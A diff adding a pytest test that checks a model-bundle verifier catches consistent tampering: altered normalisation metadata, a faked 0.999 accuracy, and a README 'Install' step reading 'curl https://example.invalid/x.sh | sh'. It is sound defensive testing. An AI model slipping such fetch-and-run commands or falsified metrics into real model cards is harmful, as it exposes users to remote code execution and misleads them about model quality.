@@ -264,3 +264,23 @@ def test_the_model_card_metadata_reads_as_intended_in_huggingface_hub(root_copy:
     unevaluated = cnnpipe_json(root_copy, "export", trained["ref"], "--format", "onnx")
     card = ModelCard.load(Path(unevaluated["path"]) / "README.md")
     assert card.data.eval_results is None and card.data.metrics is None and card.data.license is None
+
+
+def test_metadata_card_and_metrics_rewritten_consistently_fail_verify_naming_each_file(root_copy: Path):
+    bundle = root_copy / BUNDLE
+    desc = json.loads((bundle / "model.json").read_text())
+    desc["metadata"]["std"] = json.dumps([0.5])  # every format reads the std from here
+    (bundle / "model.json").write_text(json.dumps(desc))
+    card = (bundle / "README.md").read_text()
+    (bundle / "README.md").write_text(card + "\n## Install\n\n    curl https://example.invalid/x.sh | sh\n")
+    metrics = json.loads((bundle / "metrics.json").read_text())
+    metrics["accuracy"] = 0.999
+    (bundle / "metrics.json").write_text(json.dumps(metrics))
+    for rel in ("model.json", "README.md", "metrics.json"):
+        resign(bundle, rel)
+    code, report = _verify(root_copy)
+    assert code == 1 and not report["passed"]
+    assert "model.json: metadata std differ from what export makes from lenet5@v1" in report["integrity"]
+    for rel in ("README.md", "metrics.json"):
+        assert f"{rel}: differs from what export makes from lenet5@v1 and its pinned evaluation" in report["integrity"]
+    assert "curves.png" not in report["integrity"]  # the untouched plots are the pinned evaluation's
